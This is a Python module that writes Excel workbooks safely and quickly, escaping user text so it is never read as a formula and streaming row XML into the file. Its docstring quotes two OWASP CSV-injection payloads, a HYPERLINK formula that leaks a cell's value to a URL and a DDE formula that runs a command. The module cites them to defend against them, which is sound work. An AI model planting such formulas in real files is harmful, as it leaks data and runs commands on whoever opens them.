"""Cells for every workbook the app writes: user text stays text, rows stream.

**Text is never a formula.** openpyxl turns any string that starts with ``=`` into a
formula (and ``#N/A`` into an error value); Excel also evaluates ``+ - @`` and a leading
tab or carriage return when a cell is edited or the sheet goes through CSV (the OWASP
"CSV injection" list: ``=HYPERLINK("http://…?leak="&C5,…)``, ``=cmd|' /C calc'!A0``).
Our choice: every string is written as an explicit *string* cell (``t="inlineStr"``,
never ``f``), and one that starts with one of those characters also gets Excel's
quote-prefix style (what typing ``'`` before it in Excel does). The stored value stays
exactly what the user typed, with no visible apostrophe: a name re-imported from the
error workbook is the same name, a printed export shows no stray ``'``, and Excel keeps
the cell as text even when someone edits it. (Prefixing the text itself with ``'``, the
other OWASP option, is meant for CSV; in xlsx it would change the data and show.)

**Characters Excel cannot hold are dropped**, not fatal: the C0 controls other than tab,
line feed and carriage return (what openpyxl's ``ILLEGAL_CHARACTERS_RE`` refuses with an
exception), lone surrogates and U+FFFE/U+FFFF (not XML); text is cut at Excel's 32,767
characters per cell.

**Rows stream, in linear time.** The old writers read ``sheet.max_row`` (a scan of every
cell) once per appended row: quadratic, 83 s for 8,000 rows. openpyxl's own write-only
mode is linear but builds an XML element per cell (~35 µs a cell: 100,000 rows × 8
columns ≈ 28 s). So :class:`SheetRows` writes the rows' XML itself, row by row, into a
temporary file (constant memory), with style ids resolved once per column; openpyxl
writes everything else of the workbook (styles, column widths, merged cells, page
setup, header and footer, frozen panes) and :meth:`SheetRows.save` splices the rows
into its empty ``<sheetData/>``, writing the file under a temporary name first so a
failure never leaves half a workbook. See ``bench/xlsx_write.py``.
"""

from __future__ import annotations

import math
import os
import re
import tempfile
import zipfile
from collections.abc import Iterable, Sequence
from copy import copy
from datetime import date, datetime
from pathlib import Path
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill
from openpyxl.styles.cell_style import StyleArray
from openpyxl.utils import get_column_letter
from openpyxl.utils.datetime import to_excel
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

__all__ = [
    "FORMULA_TRIGGERS",
    "MAX_CELL_CHARS",
    "CellStyle",
    "SheetRows",
    "clean_text",
    "header_footer_text",
]

#: A cell whose text starts with one of these is read as a formula by Excel (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Excel's limit of characters in one cell.
MAX_CELL_CHARS = 32_767
_UNHOLDABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
#: Excel reads "_x0041_" in a string as the character U+0041; a literal one is escaped.
_EXCEL_ESCAPE = re.compile(r"_(x[0-9A-Fa-f]{4}_)")
_XML_TEXT = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", "\r": "&#13;"})
_EMPTY_SHEET_DATA = re.compile(rb"<sheetData\s*/>|<sheetData>\s*</sheetData>")


def clean_text(text: str) -> str:
    """``text`` without the characters a workbook cannot hold, cut to Excel's limit."""
    cleaned = _UNHOLDABLE.sub("", text)
    return cleaned[:MAX_CELL_CHARS]


def header_footer_text(text: str) -> str:
    """Text for a printed header or footer: ``&`` starts a field code there (``&F`` is
    the file's path), so data's ampersands are doubled."""
    return clean_text(text).replace("&", "&&")


def _xml_text(text: str) -> str:
    if "_x" in text:
        text = _EXCEL_ESCAPE.sub(r"_x005F_\1", text)
    return text.translate(_XML_TEXT)


def _register(template: Cell) -> int:
    """The workbook's id of the template's current style (a copy is registered: the
    template is changed afterwards, the registered style must not be)."""
    workbook = template.parent.parent
    style = StyleArray() if template._style is None else copy(template._style)
    return int(workbook._cell_styles.add(style))


class CellStyle:
    """One cell look (font, border, fill, alignment, number format) registered once in
    the workbook: the style ids of its text, quoted-text, number and date variants."""

    def __init__(
        self,
        sheet: WriteOnlyWorksheet,
        *,
        font: Font | None = None,
        border: Border | None = None,
        fill: PatternFill | None = None,
        alignment: Alignment | None = None,
        number_format: str | None = None,
    ) -> None:
        template = Cell(sheet, row=1, column=1)
        if font is not None:
            template.font = font
        if border is not None:
            template.border = border
        if fill is not None:
            template.fill = fill
        if alignment is not None:
            template.alignment = alignment
        if number_format is not None:
            template.number_format = number_format
        self.plain = _register(template)
        template.number_format = "@"  # text: an ID number must never become a float
        self.text = _register(template)
        template.quotePrefix = True
        self.quoted = _register(template)
        template.quotePrefix = False
        template.number_format = "yyyy-mm-dd"
        self.date = _register(template)
        template.number_format = "yyyy-mm-dd hh:mm:ss"
        self.datetime = _register(template)

    def xml(self, ref: str, value: Any) -> str:
        """The ``<c>`` element of one cell (empty string for an unstyled blank)."""
        if isinstance(value, str):
            text = clean_text(value)
            style = self.quoted if text.startswith(FORMULA_TRIGGERS) else self.text
            return (
                f'<c r="{ref}" s="{style}" t="inlineStr"><is>'
                f'<t xml:space="preserve">{_xml_text(text)}</t></is></c>'
            )
        if value is None:
            return f'<c r="{ref}" s="{self.plain}"/>'
        if isinstance(value, bool):
            return f'<c r="{ref}" s="{self.plain}" t="b"><v>{int(value)}</v></c>'
        if isinstance(value, int | float) and math.isfinite(value):
            return f'<c r="{ref}" s="{self.plain}"><v>{value!r}</v></c>'
        if isinstance(value, datetime):
            serial = to_excel(value.replace(tzinfo=None))
            return f'<c r="{ref}" s="{self.datetime}"><v>{serial!r}</v></c>'
        if isinstance(value, date):
            return f'<c r="{ref}" s="{self.date}"><v>{to_excel(value)!r}</v></c>'
        return self.xml(ref, str(value))  # times, durations, anything else: its text


class SheetRows:
    """The rows of one write-only sheet, streamed as XML into a temporary file."""

    def __init__(self, sheet: WriteOnlyWorksheet, folder: Path) -> None:
        self.sheet = sheet
        self.count = 0
        self._letters: list[str] = []
        self._file: IO[str] = tempfile.TemporaryFile(  # noqa: SIM115 - closed in save()
            "w+", encoding="utf-8", dir=folder, prefix=".rows-"
        )

    def _letter(self, index: int) -> str:
        while len(self._letters) <= index:
            self._letters.append(get_column_letter(len(self._letters) + 1))
        return self._letters[index]

    def append(
        self,
        values: Iterable[Any] = (),
        styles: Sequence[CellStyle] | CellStyle = (),
        *,
        height: float | None = None,
    ) -> int:
        """Write one row (each value with its column's style; the last style serves any
        further columns; ``height`` in points); returns its row number. (The sheet's
        ``row_dimensions`` must stay unused: openpyxl would write rows of its own.)"""
        self.count += 1
        row = self.count
        cells = []
        for index, value in enumerate(values):
            if isinstance(styles, CellStyle):
                style = styles
            elif styles:
                style = styles[min(index, len(styles) - 1)]
            else:
                raise ValueError("a row with values needs a style")
            if value is None and style.plain == 0:
                continue
            cells.append(style.xml(f"{self._letter(index)}{row}", value))
        tall = "" if height is None else f' ht="{height}" customHeight="1"'
        if cells or tall:
            self._file.write(f'<row r="{row}"{tall}>{"".join(cells)}</row>')
        return row

    def save(self, workbook: Workbook, path: Path) -> None:
        """Save the workbook with these rows, atomically (a temporary file renamed)."""
        folder = path.parent
        handle, temporary = tempfile.mkstemp(dir=folder, prefix=".xlsx-", suffix=".tmp")
        os.close(handle)
        spliced = Path(temporary + ".xlsx")
        try:
            workbook.save(temporary)
            member = self.sheet.path.lstrip("/")
            with (
                zipfile.ZipFile(temporary) as source,
                zipfile.ZipFile(spliced, "w", zipfile.ZIP_DEFLATED) as target,
            ):
                for info in source.infolist():
                    data = source.read(info.filename)
                    if info.filename != member:
                        target.writestr(info, data)
                        continue
                    found = _EMPTY_SHEET_DATA.search(data)
                    if found is None:
                        raise RuntimeError("openpyxl wrote a sheet without an empty sheetData")
                    with target.open(member, "w") as out:
                        out.write(data[: found.start()])
                        out.write(b"<sheetData>")
                        self._file.seek(0)
                        while chunk := self._file.read(1 << 20):
                            out.write(chunk.encode("utf-8"))
                        out.write(b"</sheetData>")
                        out.write(data[found.end() :])
            os.replace(spliced, path)
        finally:
            self._file.close()
            for leftover in (Path(temporary), spliced):
                leftover.unlink(missing_ok=True)
